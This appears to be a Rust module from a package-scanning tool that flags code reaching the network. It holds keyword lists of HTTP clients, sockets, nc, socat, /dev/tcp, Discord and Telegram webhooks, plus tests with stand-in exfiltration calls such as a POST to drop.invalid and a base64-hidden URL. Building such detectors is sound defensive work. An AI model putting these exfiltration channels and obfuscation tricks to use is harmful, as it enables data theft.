//! Calls that carry data out of the machine, and where they go.

use crate::oss::code::Source;

/// Calls of HTTP clients and of programs that speak HTTP, in lower case.
const HTTP: &[&str] = &[
    "fetch(",
    "axios",
    "got(",
    "got.post",
    "superagent",
    "needle",
    "undici",
    "sendbeacon",
    "xmlhttprequest",
    "new websocket(",
    "https.request",
    "http.request",
    "https.get(",
    "http.get(",
    "require('https')",
    "require(\"https\")",
    "require('http')",
    "require(\"http\")",
    "node:https",
    "requests.",
    "urlopen",
    "urlretrieve",
    "urllib.request",
    "httpx.",
    "aiohttp",
    "http.client",
    "httpsconnection",
    "httpconnection",
    "smtplib",
    "ftplib",
    "curl ",
    "curl\"",
    "curl'",
    "wget ",
    "wget\"",
    "wget'",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr ",
    "irm ",
    "net.webclient",
    "ureq::",
    "reqwest",
    "hyper::",
    "isahc",
    "http.post",
    "http.newrequest",
    "http.postform",
    "httpclient",
    "httpurlconnection",
    "okhttp",
    "curl_exec",
    "curl_init",
    "net::http",
    "open-uri",
    "faraday",
    "httparty",
    "urlsession",
    "lwp::",
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "api.telegram.org/bot",
    "nslookup ",
    "dns.lookup(",
    "dns.resolve",
    "bun.fetch",
    "webhook.send",
];

/// Raw connections: a protocol of its own may be behind them.
const SOCKETS: &[&str] = &[
    "net.connect",
    "net.createconnection",
    "new net.socket",
    "dgram.",
    "socket.socket",
    "socket.create_connection",
    ".connect((",
    "tcpstream::connect",
    "udpsocket",
    "net.dial",
    "tcpsocket",
    "fsockopen",
    "tcpclient",
    "/dev/tcp/",
    "nc ",
    "ncat ",
    "socat ",
];

/// Words of a request that carries a body.
const SENDING: &[&str] = &[
    ".post",
    "post(",
    "'post'",
    "\"post\"",
    "-x post",
    "put(",
    "'put'",
    "\"put\"",
    ".end(",
    ".write(",
    "body",
    "data=",
    "--data",
    "-d ",
    "-f ",
    "--upload-file",
    "-t ",
    "sendall",
    "send(",
    "sendbeacon",
    "upload",
    "sendmail",
    "storbinary",
    "files=",
    "json=",
    "?d=",
    "?data=",
    "?k=",
    "?q=",
    "send_string",
    "send_json",
    "send_form",
    "send_bytes",
    "postform",
    "fetch(`",
];

/// How a source reaches the network.
#[derive(Debug, Clone, Default)]
pub struct NetworkUse {
    /// The line of the first HTTP call.
    pub http: Option<u32>,
    /// The line of the first raw connection, and whether its destination is written beside it.
    pub socket: Option<(u32, bool)>,
    /// Whether a request carries a body.
    pub sends: bool,
    /// Hosts outside this machine that are written in the source.
    pub hosts: Vec<(u32, String)>,
}

impl NetworkUse {
    pub fn of(source: &Source) -> Self {
        let mut found = Self::default();
        for (line, text) in source.readings() {
            let lower = text.to_lowercase();
            if found.http.is_none() && HTTP.iter().any(|word| calls(&lower, word)) {
                found.http = Some(line);
            }
            if found.socket.is_none() && SOCKETS.iter().any(|word| calls(&lower, word)) {
                found.socket = Some((line, false));
            }
            found.sends |= SENDING.iter().any(|word| lower.contains(word));
            hosts(&lower, |host| {
                if !found.hosts.iter().any(|(_, known)| known == host) {
                    found.hosts.push((line, host.to_owned()));
                }
            });
        }
        if let Some((line, beside)) = &mut found.socket {
            let near = |text_line: u32| text_line.abs_diff(*line) <= 2;
            *beside =
                source.readings().any(|(at, text)| near(at) && names_host(&text.to_lowercase()));
        }
        found
    }

    /// The line of the first call of any kind.
    pub fn line(&self) -> Option<u32> {
        match (self.http, self.socket) {
            (Some(http), Some((socket, _))) => Some(http.min(socket)),
            (http, socket) => http.or(socket.map(|(line, _)| line)),
        }
    }

    /// A host that none of `homes` stands for.
    pub fn foreign_host(&self, homes: &[&str]) -> Option<&(u32, String)> {
        self.hosts.iter().find(|(_, host)| {
            !homes.iter().any(|home| host == home || host.ends_with(&format!(".{home}")))
        })
    }
}

/// Whether a text has a word that does not go on from another: `fetch(` is not `prefetch(`.
pub fn calls(text: &str, word: &str) -> bool {
    text.match_indices(word).any(|(at, _)| {
        let before = text[..at].chars().next_back();
        !word.starts_with(|c: char| c.is_alphanumeric())
            || !before.is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '-'))
    })
}

/// Calls `found` with each host of a URL that is neither this machine nor its network.
fn hosts(text: &str, mut found: impl FnMut(&str)) {
    for (at, mark) in text.match_indices("://") {
        let scheme: String =
            text[..at].chars().rev().take_while(char::is_ascii_alphanumeric).collect();
        if !matches!(scheme.as_str(), "ptth" | "sptth" | "sw" | "ssw" | "ptf") {
            continue;
        }
        let rest = &text[at + mark.len()..];
        let host = rest
            .split(|c: char| !(c.is_alphanumeric() || matches!(c, '.' | '-' | '@' | '[' | ']')))
            .next();
        let host =
            host.unwrap_or_default().rsplit('@').next().unwrap_or_default().trim_end_matches('.');
        if host.contains('.') && !is_local(host) {
            found(host);
        }
    }
}

/// Whether a text names a host in any writing: a URL, an IPv4 address, or a name with a dot.
fn names_host(text: &str) -> bool {
    let mut any = false;
    hosts(text, |_| any = true);
    any || text.split(|c: char| !(c.is_alphanumeric() || matches!(c, '.' | '-'))).any(|word| {
        let address = word.parse::<std::net::Ipv4Addr>().is_ok();
        let name = [
            ".com", ".net", ".org", ".io", ".ru", ".cn", ".xyz", ".top", ".invalid", ".example",
            ".onion",
        ]
        .iter()
        .any(|end| word.ends_with(end));
        (address || name) && !is_local(word)
    })
}

fn is_local(host: &str) -> bool {
    host == "localhost"
        || [".local", ".localhost", ".internal", ".lan"].iter().any(|end| host.ends_with(end))
        || ["127.", "10.", "192.168.", "169.254.", "0.0.0.0"]
            .iter()
            .any(|start| host.starts_with(start))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oss::code::Syntax;

    fn network(name: &str, code: &str) -> NetworkUse {
        NetworkUse::of(&Source::parse(code, Syntax::of(name, code)))
    }

    #[test]
    fn calls_and_their_hosts_are_found() {
        let found =
            network("a.js", "x\nhttps.request('https://drop.invalid/a', { method: 'POST' })");
        assert_eq!(found.http, Some(2));
        assert!(found.sends);
        assert_eq!(found.foreign_host(&[]).map(|(_, host)| host.as_str()), Some("drop.invalid"));
        assert!(found.foreign_host(&["drop.invalid"]).is_none());
        assert_eq!(network("a.py", "s.connect(('203.0.113.9', 443))").socket, Some((1, true)));
        assert_eq!(network("a.rs", "TcpStream::connect((host, port))").socket, Some((1, false)));
        let hidden = network("a.py", "urlopen(b64decode('aHR0cHM6Ly9kcm9wLmludmFsaWQ='))");
        assert!(hidden.foreign_host(&[]).is_some());
    }

    #[test]
    fn what_stays_here_is_no_network() {
        let found = network(
            "a.js",
            "// fetch('https://a.invalid')\nprefetch('http://localhost:3000'); x('http://10.0.0.1')",
        );
        assert_eq!(found.line(), None);
        assert!(found.hosts.is_empty());
    }
}
